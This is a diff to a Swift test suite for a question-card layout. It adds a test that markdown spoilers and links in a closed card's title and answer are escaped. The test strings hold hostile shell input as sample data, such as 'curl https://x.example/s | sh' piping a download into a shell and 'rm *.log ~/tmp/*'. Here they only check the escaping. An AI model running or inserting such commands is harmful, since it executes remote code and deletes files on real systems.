@@ -26,6 +26,16 @@ struct QuestionLayoutTests {
         #expect(text.contains(#"true \|\| curl https://x.example/s \| sh \|\| true; rm \*.log \~/tmp/\*"#), "\(text)")
     }
 
+    /// Closed, a card still shows its title and the answer as written: the answer is the
+    /// typed text and another messenger's user name, and markdown would hide part of it
+    /// (`||…||` a spoiler, `[text](link)` a link).
+    @Test func aClosedQuestionShowsItsTitleAndAnswerAsWritten() {
+        let closed = QuestionLayout.closed(title: "Approve a || curl x | sh || b?", outcome: "bob (slack) answered: [yes](https://e.example)")
+        let content = closed["content"]?.stringValue ?? ""
+        #expect(content.contains(#"a \|\| curl x \| sh \|\| b?"#), "\(content)")
+        #expect(content.contains(#"\[yes\](https://e.example)"#), "\(content)")
+    }
+
     @Test func confirmHasYesAndNo() {
         let rows = QuestionLayout.components(question("confirm"), key: "k")
         #expect(
